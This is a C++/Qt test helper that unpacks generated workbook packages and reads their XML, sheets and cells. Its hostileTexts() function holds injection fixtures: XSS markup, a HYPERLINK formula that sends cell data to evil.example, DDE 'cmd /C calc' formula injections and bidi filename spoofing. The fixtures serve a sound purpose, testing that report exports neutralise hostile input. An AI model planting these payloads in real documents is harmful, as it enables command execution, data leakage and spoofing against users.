// SPDX-FileCopyrightText: 2026 The Vierklang authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/app/report/packageinspection.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QXmlStreamReader>

using namespace Qt::Literals::StringLiterals;

namespace vierklang::test {

namespace {

QByteArray said(const QStringList &arguments)
{
    QProcess unzip;
    unzip.start(u"unzip"_s, arguments);
    if (!unzip.waitForFinished(30000) || unzip.exitCode() != 0)
        qFatal("unzip complains: %s", (unzip.readAllStandardOutput() + unzip.readAllStandardError()).constData());
    return unzip.readAllStandardOutput();
}

} // namespace

Package::Package(const QByteArray &archive)
{
    const QTemporaryDir folder;
    const QString path = folder.filePath(u"package.zip"_s);
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly) || file.write(archive) != archive.size())
        qFatal("no room for a package");
    file.close();
    said({u"-tqq"_s, path}); // checksums
    m_names = QString::fromUtf8(said({u"-Z1"_s, path})).split(u'\n', Qt::SkipEmptyParts);
    said({u"-qq"_s, path, u"-d"_s, folder.filePath(u"out"_s)});
    for (const QString &name : m_names) {
        QFile part(folder.filePath(u"out/"_s + name));
        if (part.open(QIODevice::ReadOnly))
            m_files.insert(name, part.readAll());
    }
}

QList<Element> elementsOf(const QByteArray &xml, QString *problem)
{
    QList<Element> elements;
    QList<qsizetype> open;
    QXmlStreamReader reader(xml);
    while (!reader.atEnd()) {
        switch (reader.readNext()) {
        case QXmlStreamReader::StartElement: {
            Element element{reader.qualifiedName().toString(), {}, {}, {}};
            for (const QXmlStreamAttribute &attribute : reader.attributes())
                element.attributes.insert(attribute.qualifiedName().toString(), attribute.value().toString());
            for (const qsizetype index : open)
                element.ancestors.append(elements[index].name);
            open.append(elements.size());
            elements.append(element);
            break;
        }
        case QXmlStreamReader::EndElement:
            open.removeLast();
            break;
        case QXmlStreamReader::Characters:
            for (const qsizetype index : open)
                elements[index].text += reader.text();
            break;
        default:
            break;
        }
    }
    if (!reader.hasError())
        return elements;
    if (problem)
        *problem = u"%1 at %2"_s.arg(reader.errorString()).arg(reader.lineNumber());
    return {};
}

QList<Element> elementsNamed(const QList<Element> &elements, const QString &name)
{
    QList<Element> named;
    for (const Element &element : elements) {
        if (element.name == name)
            named.append(element);
    }
    return named;
}

QStringList rowsOf(const QList<Element> &elements, const QString &row, const QStringList &cells)
{
    QStringList rows;
    bool isFirst = true;
    for (const Element &element : elements) {
        if (element.name == row) {
            rows.append(QString());
            isFirst = true;
        } else if (cells.contains(element.name) && !rows.isEmpty()) {
            rows.last() += (isFirst ? QString() : u" | "_s) + element.text.simplified();
            isFirst = false;
        }
    }
    return rows;
}

QMap<QString, QString> hostileTexts()
{
    return {{u"markup"_s, u"<img src=\"https://evil.example/x.png\" onerror='alert(1)'><script>alert(2)</script>&amp;"_s},
            {u"formula"_s, u"=HYPERLINK(\"https://evil.example/?\"&A1;\"klick\")"_s},
            {u"command"_s, u"@SUM(1+1)*cmd|' /C calc'!A0"_s},
            {u"plus"_s, u"+1+cmd|' /C calc'!A0"_s},
            {u"hidden"_s, u"\u2066=1+1"_s},
            {u"bidi"_s, u"harm\u202Egnp.exe\u202C \u2066los\u2069 עברית"_s},
            {u"emoji"_s, u"👩‍👩‍👧‍👦 𝔊 Ende"_s},
            {u"quotes"_s, u"\"; DROP \"\",' ]]> --> %PDF %1 {commune} **fett**"_s},
            {u"long"_s, u"Verwaltungsdigitalisierung und Ähnliches "_s.repeated(130).left(5000)}};
}

QStringList sheetsOf(const Package &workbook)
{
    QStringList names;
    for (const Element &sheet : elementsNamed(elementsOf(workbook.file(u"xl/workbook.xml"_s)), u"sheet"_s))
        names.append(sheet.attributes.value(u"name"_s));
    return names;
}

QMap<QString, QString> cellsOf(const Package &workbook, int sheet)
{
    QStringList strings;
    for (const Element &string : elementsNamed(elementsOf(workbook.file(u"xl/sharedStrings.xml"_s)), u"si"_s))
        strings.append(string.text);
    QMap<QString, QString> cells;
    for (const Element &cell :
         elementsNamed(elementsOf(workbook.file(u"xl/worksheets/sheet%1.xml"_s.arg(sheet))), u"c"_s)) {
        const bool isText = cell.attributes.value(u"t"_s) == u"s"_s;
        if (!cell.text.isEmpty())
            cells.insert(cell.attributes.value(u"r"_s), isText ? strings.value(cell.text.toInt()) : cell.text);
    }
    return cells;
}

} // namespace vierklang::test
